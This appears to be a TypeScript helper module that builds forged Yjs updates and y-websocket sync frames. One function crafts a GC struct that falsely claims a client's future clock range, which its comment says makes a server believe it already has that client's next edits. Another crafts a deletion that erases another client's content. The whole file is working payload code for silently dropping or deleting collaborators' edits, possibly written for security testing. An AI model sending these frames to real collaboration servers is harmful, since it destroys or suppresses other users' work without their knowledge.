import * as encoding from 'lib0/encoding';

/**
 * A forged Yjs update (v1) of about 15 bytes: one GC struct claiming `length` clocks of `client`
 * from `clock`. Applied, it makes a server believe it has that client's next edits.
 */
export function forgedGcUpdate(client: number, clock: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 1); // one client
  encoding.writeVarUint(encoder, 1); // one struct
  encoding.writeVarUint(encoder, client);
  encoding.writeVarUint(encoder, clock);
  encoding.writeUint8(encoder, 0); // GC
  encoding.writeVarUint(encoder, length);
  encoding.writeVarUint(encoder, 0); // no deletions
  return encoding.toUint8Array(encoder);
}

/** A y-websocket sync update frame carrying `update`. */
export function updateFrame(update: Uint8Array): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 0); // sync
  encoding.writeVarUint(encoder, 2); // update
  encoding.writeVarUint8Array(encoder, update);
  return encoding.toUint8Array(encoder);
}

/** A forged Yjs update (v1) with no structs that deletes `length` clocks of `client` from `clock`. */
export function forgedDeleteUpdate(client: number, clock: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 0); // no structs
  encoding.writeVarUint(encoder, 1); // deletions of one client
  encoding.writeVarUint(encoder, client);
  encoding.writeVarUint(encoder, 1); // one range
  encoding.writeVarUint(encoder, clock);
  encoding.writeVarUint(encoder, length);
  return encoding.toUint8Array(encoder);
}
